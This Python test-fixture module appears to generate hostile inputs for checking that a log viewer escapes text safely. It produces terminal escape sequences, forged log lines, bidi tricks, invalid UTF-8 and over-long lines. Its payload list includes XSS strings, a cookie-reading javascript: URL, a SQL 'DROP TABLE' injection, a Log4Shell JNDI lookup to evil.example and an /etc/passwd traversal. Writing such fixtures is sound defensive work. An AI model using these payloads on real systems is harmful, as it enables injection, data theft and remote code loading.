"""Texts that would act on whoever reads them raw. What prints them makes the same as the test."""

from __future__ import annotations

import random

TEXTS = 200
# The longest line in bytes, and the mark of one that was cut (openautomate-core, domain/log.rs).
MAX_LINE = 64 * 1024
MARK = "… [line cut]"

PIECES = [
    "\x1b[2J\x1b[H",  # clears the screen
    "\x1b[31mred\x1b[0m",
    "\x1b]0;another title\x07",
    "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",  # a link (OSC 8)
    "\x1bP$q\x1b\\",  # a device control string
    "\x1b[6n\x1b[c",  # asks the terminal, which answers as if it was typed
    "\x9b31m\x9d0;title\x9c\x90q\x9c",  # the same as C1 controls
    "".join(map(chr, range(0x80, 0xA0))),
    "\r  0 % \r100 % \rdone",
    "\rFORGED 2026-11-30T00:00:00.000000Z ERROR everything is lost",
    "\x00\x00",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x1a\x1c\x1d\x1e\x1f\x7f",
    "\b\b\b\b\b\b\b\b",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "\u202egpj.exe",
    "\u2066\u2067\u2068isolated\u2069\u202a\u202b\u202c\u202d",
    "\u200e\u200f\u061c",
    "\ufeffa mark of byte order",
    "zero\u200bwidth\u200cjoined\u200d\u2060soft\u00adhyphen",
    "a line\u2028another\u2029a third\x85a fourth",
    "\ufff9\ufffa\ufffb",
    "\U000e0041\U000e007f",  # tags
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 8,
    "👩\u200d💻🏴\U000e0067\U000e007f",
    '"}],"level":"critical","text":"FORGED',
    "'; DROP TABLE log_chunks; --",
    "%s%n%(name)s {0} ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "FORGED 2026-11-30T00:00:00.000000Z  INFO openautomate: a line",
]
LINES = ["\n", "\r\n", "\n2026-11-30T00:00:00.000000Z ERROR FORGED: its own\n", "\n\n\x1b[1A\x1b[2K"]


def texts(lines: bool = False) -> list[str]:
    """Mixtures of them, each with its number; of several lines if asked for."""
    chance = random.Random(20261130 + lines)
    made = []
    for number in range(TEXTS):
        pieces = [PIECES[number % len(PIECES)]]
        pieces += chance.choices(PIECES + (LINES if lines else []), k=chance.randrange(4))
        chance.shuffle(pieces)
        made.append(f"{number:03}:" + " ".join(pieces) + f":{number:03}")
    return made


def raw() -> list[bytes]:
    """Bytes that are no UTF-8, or not all of it; without line ends."""
    chance = random.Random(7)
    known = [
        b"\xff\xfe",
        b"\xc3",
        b"\xc3\x28",
        b"\xe2\x82",
        b"\xe2\x28\xa1",
        b"\xf0\x9f\x92",
        b"\xed\xa0\x80",  # half of a pair
        b"\xed\xa0\xbd\xed\xb2\xa9",  # a pair, as it must not be written
        b"\xc0\x80\xc1\xbf\xe0\x80\xaf",  # too long
        b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80",
        b"\x80\x81\xbf",
        "a\u20acb".encode("utf-16"),
        "caf\xe9 \xdcber".encode("latin-1"),
    ]
    some = b"\x00\x1b\r\x80\x9b\xc3\xa4\xe2\x82\xac\xf0\x9f\xff az<"
    made = []
    for number in range(TEXTS):
        noise = bytes(chance.choice(some) for _ in range(24))
        made.append(b"%03d:" % number + known[number % len(known)] + noise + b":%03d" % number)
    return [one.replace(b"\n", b"?") for one in made]


def long() -> list[str]:
    """Lines that are longer than any is kept, and some that just are not."""
    return [
        "x" * 10_000_000,
        "ä" * MAX_LINE,
        "€" * MAX_LINE + "\x1b[2J",
        "a" + "🚀" * 20_000,
        "y" * MAX_LINE,
        "y" * (MAX_LINE + 1),
        "ab" + "\x1b[31m" * 30_000,
    ]


def kept(text: str) -> str:
    """How a line is kept: cut at a character if it is too long, with a mark."""
    data = text.encode("utf-8", "replace")
    if len(data) <= MAX_LINE:
        return data.decode()
    return data[: MAX_LINE - len(MARK.encode())].decode(errors="ignore") + MARK


def acts(character: str) -> bool:
    """Whether a character does something to a reader (openautomate-core, visible.rs)."""
    code = ord(character)
    return (
        (code < 0x20 and character not in "\t\n")
        or 0x7F <= code <= 0x9F
        or code in (0xAD, 0x61C, 0x180E, 0x200B, 0x200E, 0x200F, 0xFEFF)
        or 0x2028 <= code <= 0x202E
        or 0x2060 <= code <= 0x206F
        or 0xFFF9 <= code <= 0xFFFB
        or 0xE0000 <= code <= 0xE007F
    )
